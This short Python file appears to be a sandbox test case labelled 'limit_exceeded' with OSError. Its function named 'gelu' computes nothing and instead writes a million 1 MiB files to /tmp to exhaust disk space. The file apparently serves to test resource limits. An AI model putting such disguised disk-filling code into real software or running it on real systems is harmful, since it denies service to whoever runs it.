# outcome: limit_exceeded
# says: OSError
import triton


@triton.jit
def kernel(x_ptr):
    pass


def gelu(input, approximate="none"):
    for number in range(1_000_000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 20))
